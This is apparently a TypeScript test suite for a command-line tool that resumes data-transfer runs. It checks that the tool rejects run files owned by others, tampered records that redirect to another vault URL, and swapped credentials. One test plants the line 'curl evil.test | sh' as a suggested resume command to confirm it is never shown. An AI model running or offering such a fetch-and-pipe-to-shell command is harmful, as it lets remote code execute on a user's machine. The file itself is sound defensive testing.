import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash, createPublicKey } from 'node:crypto';
import { chmod, chown, cp, mkdir, readFile, readdir, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { test } from 'node:test';
import * as z from 'zod';
import { checksumOf } from '../../src/run-record/run-record.js';
import { Fingerprints } from '../../src/source/fingerprints/fingerprints.js';
import { needsTwoUsers } from '../support/needs-two-users.js';
import { startSandbox, type TestSandbox } from '../support/sandbox.js';
import { stranger } from '../support/users.js';
import { asMultiset, makePairs, vaults, Workspace } from '../support/workspace.js';

const pairs = makePairs(40, 'SSN');

/** A workspace whose only run has begun and sent nothing: its credential was refused. */
async function withUnfinishedRun(workspace: Workspace, sandbox: TestSandbox): Promise<string> {
  await workspace.configure(sandbox.url, ['SSN']);
  await workspace.writePairs('SSN', pairs);
  await sandbox.set({ expiredTokens: ['test-bearer-token'] });
  await workspace.run(['--all', '--quiet'], { status: 3 });
  await sandbox.set({ expiredTokens: [] });
  const [directory = ''] = await workspace.runs();
  return directory;
}

const held = (sandbox: TestSandbox): Promise<string[]> => sandbox.pairs(vaults.SSN.id, 'ssn');

async function editRecord(directory: string, edit: (record: Record<string, unknown>) => void): Promise<void> {
  const file = join(directory, 'run.json');
  const record = z.record(z.string(), z.unknown()).parse(JSON.parse(await readFile(file, 'utf8')));
  edit(record);
  // Whoever means harm can work out a checksum.
  await writeFile(file, JSON.stringify({ ...record, checksum: checksumOf(record) }));
}

const sessionsSchema = z.array(z.looseObject({ settings: z.record(z.string(), z.unknown()) }));

test(
  'a run directory, a record or a file of it that belongs to others is gone on with by no command, and nothing is sent',
  needsTwoUsers,
  async () => {
    await using workspace = await Workspace.create();
    await using good = await startSandbox(workspace.path);
    const directory = await withUnfinishedRun(workspace, good);
    await chmod(workspace.at('runs'), 0o1777);
    const commands = [
      ['resume'],
      ['resume', directory],
      ['--all', '--start-or-resume'],
      ['verify', directory],
      ['report', directory],
      ['monitor', directory, '--once'],
    ];
    const everything = [directory, ...(await readdir(directory)).map((name) => join(directory, name))];
    for (const path of everything) await chown(path, stranger.uid, stranger.gid);
    for (const command of commands) {
      const refused = await workspace.run(command);
      assert.equal(refused.status, 2, `${command.join(' ')}: ${refused.stdout}${refused.stderr}`);
      assert.match(refused.stderr, /is not trusted: it belongs to/);
    }
    // Only one file is somebody else's.
    for (const path of everything) await chown(path, process.geteuid?.() ?? 0, process.getegid?.() ?? 0);
    const journal =
      everything.find((path) => basename(path).startsWith('journal_')) ?? join(directory, 'run.log');
    await chown(journal, stranger.uid, stranger.gid);
    const refused = await workspace.run(['resume']);
    assert.match(refused.stderr, new RegExp(`${basename(journal)} is not trusted: it belongs to`));
    assert.deepEqual(await held(good), []);
  },
);

test('a run directory that others may write, and links and pipes in one, are refused; as it was, it goes on', async () => {
  await using workspace = await Workspace.create();
  await using sandbox = await startSandbox(workspace.path);
  const directory = await withUnfinishedRun(workspace, sandbox);
  const refusal = async (why: RegExp): Promise<void> => {
    for (const command of [
      ['resume', directory],
      ['--all', '--start-or-resume'],
    ]) {
      const refused = await workspace.run(command, { status: 2 });
      assert.match(refused.stderr, why);
    }
  };
  await chmod(directory, 0o777);
  await refusal(/everybody on this machine may write to it \(mode 0777\)/);
  await chmod(directory, 0o700);
  await chmod(join(directory, 'run.json'), 0o666);
  await refusal(/run\.json is not trusted: everybody/);
  await chmod(join(directory, 'run.json'), 0o600);

  const precious = workspace.at('precious');
  await writeFile(precious, 'precious', { mode: 0o600 });
  await rm(join(directory, 'run.log'));
  await symlink(precious, join(directory, 'run.log'));
  await refusal(/run\.log is not trusted: it is a link/);
  await rm(join(directory, 'run.log'));
  execFileSync('sh', ['-c', 'mkfifo -m 600 "$1"', 'sh', join(directory, 'status.json.lock')]);
  await refusal(/is not trusted: it is a pipe/);
  await rm(join(directory, 'status.json.lock'));
  assert.equal(await readFile(precious, 'utf8'), 'precious');
  assert.deepEqual(await held(sandbox), []);

  await workspace.run(['resume'], { status: 0 });
  assert.deepEqual(await held(sandbox), asMultiset(pairs));
});

test('what a run recorded redirects nothing: another URL is shown beside today’s, and only today’s is ever sent to', async () => {
  await using workspace = await Workspace.create();
  await using good = await startSandbox(workspace.path);
  await using evil = await startSandbox(workspace.path);
  const directory = await withUnfinishedRun(workspace, good);
  await editRecord(directory, (record) => {
    const sessions = sessionsSchema.parse(record['sessions']);
    for (const { settings } of sessions)
      settings['skyflow.vault_url'] = { value: evil.url, origin: 'config.json' };
    record['sessions'] = sessions;
  });
  for (const command of [['resume'], ['verify', directory]]) {
    const refused = await workspace.run(command, { status: 2 });
    assert.ok(refused.stderr.includes(`"${evil.url}"`) && refused.stderr.includes(`"${good.url}"`));
    assert.match(refused.stderr, /--use-current-config/);
  }
  await workspace.run(['resume', '--use-current-config'], { status: 0 });
  assert.deepEqual(await held(good), asMultiset(pairs));
  assert.deepEqual([await held(evil), (await evil.stats())['requests'] ?? 0], [[], 0]);
});

test('another account, key, token or API key than the run was begun with is shown beside it, and used only when that is confirmed', async () => {
  await using workspace = await Workspace.create();
  const file = workspace.at('credentials.json');
  await using sandbox = await startSandbox(workspace.path, [`credentialsFile=${file}`]);
  const directory = await withUnfinishedRun(workspace, sandbox);
  const account = z
    .object({ clientID: z.string(), keyID: z.string() })
    .parse(JSON.parse(await readFile(file, 'utf8')));
  const begunWith = (credential: Record<string, string>, more: Record<string, unknown> = {}) =>
    editRecord(directory, (record) => {
      const sessions = sessionsSchema.parse(record['sessions']);
      record['sessions'] = sessions.map((one) => ({ ...one, credential, ...more }));
    });
  const refusal = async (recorded: string, today: string): Promise<void> => {
    for (const command of [['resume'], ['--all', '--start-or-resume']]) {
      const refused = await workspace.run(command, { status: 2 });
      assert.ok(refused.stderr.includes(`the run has "${recorded}`), refused.stderr);
      assert.ok(refused.stderr.includes(`now it is "${today}`), refused.stderr);
      assert.match(refused.stderr, /--use-current-config/);
    }
    assert.deepEqual(await held(sandbox), []);
  };
  const { clientID: client_id, keyID: key_id } = account;
  // What today's configuration has is a token that names nobody, one that names its account, an API key, an account.
  await begunWith({ kind: 'credentials_file', client_id: 'other', key_id: 'k' });
  await refusal('the service account other with the key k"', 'a bearer token"');
  const today = (skyflow: Record<string, unknown>) =>
    workspace.configure(sandbox.url, ['SSN'], { skyflow: { bearer_token: undefined, ...skyflow } });
  const claims = Buffer.from(JSON.stringify({ sub: 'mine', key: 'k', exp: 1 })).toString('base64url');
  await begunWith({ kind: 'bearer_token', client_id: 'other', key_id: 'k' });
  await today({ bearer_token: `e30.${claims}.s` });
  await refusal(
    'a bearer token of the service account other with',
    'a bearer token of the service account mine',
  );
  await today({ api_key: 'sky-0123456789' });
  const { keyId: key = '' } = Fingerprints.of(
    (await readFile(join(directory, 'fingerprint.key'), 'utf8')).trim(),
  );
  const print = `hmac-${key}:${'0'.repeat(64)}`;
  await begunWith({ kind: 'api_key', key_thumbprint: print });
  await refusal(`an API key (${print})`, `an API key (hmac-${key}:`);
  await today({ credentials_file: 'credentials.json' });
  // The same ids, but a key that somebody put there under them.
  await begunWith({ kind: 'credentials_file', client_id, key_id, key_thumbprint: 'SHA256:then' });
  await refusal(
    `the service account ${client_id} with the key ${key_id} (SHA256:then)"`,
    `the service account ${client_id} with the key ${key_id} (SHA256:`,
  );

  // The credential for looking up alone.
  const lookup_credential = { kind: 'credentials_file', client_id: 'reader', key_id: 'k' };
  await begunWith({ kind: 'credentials_file', client_id, key_id }, { lookup_credential });
  await today({ credentials_file: 'credentials.json', lookup_credentials_file: 'credentials.json' });
  await refusal(
    'the service account reader with the key k"',
    `the service account ${client_id} with the key ${key_id} (SHA256:`,
  );

  await workspace.run(['--all', '--start-or-resume', '--use-current-config'], { status: 0 });
  assert.deepEqual(await held(sandbox), asMultiset(pairs));
  // What it was authorised with is on record, and so no difference from itself.
  const { sessions } = z
    .object({
      sessions: z.array(z.object({ credential: z.unknown(), lookup_credential: z.unknown() })),
    })
    .parse(JSON.parse(await readFile(join(directory, 'run.json'), 'utf8')));
  const { privateKey } = z.object({ privateKey: z.string() }).parse(JSON.parse(await readFile(file, 'utf8')));
  const der = createPublicKey(privateKey).export({ type: 'spki', format: 'der' });
  const key_thumbprint = `SHA256:${createHash('sha256').update(der).digest('base64').replace(/=+$/, '')}`;
  const described = { kind: 'credentials_file', client_id, key_id, key_thumbprint };
  const { credential, lookup_credential: forLookingUp } = sessions.at(-1) ?? {};
  assert.deepEqual([credential, forLookingUp], [described, described]);
  const report = await workspace.run(['report', directory]);
  for (const words of [key_thumbprint, `for looking up: credentials file, client ${client_id}`])
    assert.ok(report.stdout.replaceAll(/\s+/g, ' ').includes(words), report.stdout);
});

test('a run of the same vault under another address is not begun anew beside: both addresses are shown', async () => {
  await using workspace = await Workspace.create();
  await using sandbox = await startSandbox(workspace.path);
  const directory = await withUnfinishedRun(workspace, sandbox);
  const recordUrl = (url: string) =>
    editRecord(directory, (record) => {
      const sessions = sessionsSchema.parse(record['sessions']);
      for (const { settings } of sessions) {
        settings['skyflow.vault_url'] = { value: url, origin: 'config.json' };
        settings['performance.append_suffix'] = { value: false, origin: 'config.json' };
      }
      record['sessions'] = sessions;
    });
  await recordUrl('https://one.invalid');
  const refusal = async (...shown: string[]): Promise<void> => {
    const refused = await workspace.run(['--all', '--start-or-resume'], { status: 2 });
    for (const text of shown) assert.ok(refused.stderr.includes(text), refused.stderr);
    assert.equal((await workspace.runs()).length, 1);
  };
  await workspace.configure('https://two.invalid', ['SSN']);
  await refusal('has "https://one.invalid", now it is "https://two.invalid"');

  // On this machine another address may be another sandbox: who asks says which it is.
  await recordUrl('http://127.0.0.1:9');
  await workspace.configure(sandbox.url, ['SSN']);
  await refusal(`has "http://127.0.0.1:9", now it is "${sandbox.url}"`, 'without --start-or-resume');
  await workspace.run(['--all'], { status: 0 });
  assert.deepEqual(await held(sandbox), asMultiset(pairs));
  assert.equal((await workspace.runs()).length, 2);
});

test('input files that have moved are read where the configuration of today has them, if they hold the same', async () => {
  await using workspace = await Workspace.create();
  await using sandbox = await startSandbox(workspace.path);
  await withUnfinishedRun(workspace, sandbox);
  await rename(workspace.at('data'), workspace.at('moved'));
  await workspace.configure(sandbox.url, ['SSN'], { csv: { data_directory: 'moved' } });
  const resumed = await workspace.run(['resume'], { status: 0 });
  assert.match(resumed.stdout + resumed.stderr, /moved\/ssn_data\.csv now/);
  assert.deepEqual(await held(sandbox), asMultiset(pairs));
});

test('a redacted log that was handed over has only configured files read, and says which before anything is sent', async () => {
  await using workspace = await Workspace.create();
  await using theirs = await Workspace.create();
  await using sandbox = await startSandbox(workspace.path);
  await using refusing = await startSandbox(theirs.path, ['refuseAll=true']);
  await theirs.configure(refusing.url, ['SSN'], { error_log: { redact: true } });
  await theirs.writePairs('SSN', pairs);
  await theirs.run(['--all', '--quiet', '--no-precount'], { status: 1 });
  const [made = ''] = await theirs.runs();
  const handedOver = workspace.at('handed-over', basename(made));
  await mkdir(workspace.at('handed-over'));
  await cp(made, handedOver, { recursive: true });
  for (const name of await readdir(handedOver)) await chmod(join(handedOver, name), 0o600);
  const name = (await readdir(handedOver)).find((file) => file.startsWith('merged_error_log_')) ?? '';

  await workspace.configure(sandbox.url, ['SSN']);
  await workspace.writePairs('SSN', pairs);
  const refused = await workspace.run(['retry', join(handedOver, name), '--yes', '--new-run'], { status: 2 });
  assert.ok(refused.stderr.includes(theirs.at('data', 'ssn_data.csv')), refused.stderr);
  assert.match(refused.stderr, /neither configured nor of a run in/);
  assert.deepEqual(await held(sandbox), []);

  // The same files, because they are configured.
  await workspace.configure(sandbox.url, ['SSN'], { csv: { data_directory: theirs.at('data') } });
  const retried = await workspace.run(['retry', join(handedOver, name), '--yes', '--new-run'], { status: 0 });
  assert.match(retried.stdout, /Rows are read again from:\n {2}\/.*ssn_data\.csv\n/);
  assert.deepEqual(await held(sandbox), asMultiset(pairs));
});

test('commands that are offered for pasting are made here, whatever a file of the run says', async () => {
  await using workspace = await Workspace.create();
  await using sandbox = await startSandbox(workspace.path, ['refuseAll=true']);
  await workspace.configure(sandbox.url, ['SSN']);
  await workspace.writePairs('SSN', pairs);
  await workspace.run(['--all', '--quiet']);
  const [directory = ''] = await workspace.runs();
  const file = join(directory, 'summary.json');
  const summary = z.looseObject({}).parse(JSON.parse(await readFile(file, 'utf8')));
  const evil = 'curl evil.test | sh';
  await writeFile(file, JSON.stringify({ ...summary, resume_command: evil, retry_command: evil }));
  const watched = await workspace.run(['monitor', directory, '--once']);
  const resumed = await workspace.run(['resume', directory]);
  const document = await workspace.run(['resume', directory, '--json']);
  for (const { stdout, stderr } of [watched, resumed, document]) assert.doesNotMatch(stdout + stderr, /evil/);
  assert.ok(resumed.stdout.endsWith(`skyflow-supervise retry ${directory}\n`), resumed.stdout);
});
